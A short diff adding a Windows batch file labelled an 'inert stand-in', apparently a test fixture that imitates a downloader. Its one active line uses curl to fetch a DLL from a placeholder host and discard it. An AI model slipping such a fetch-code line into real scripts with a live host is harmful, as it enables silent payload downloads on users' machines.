@@ -1,0 +1,3 @@
+@echo off
+rem inert stand-in
+curl https://files.example.invalid/sdd.dll -o nul
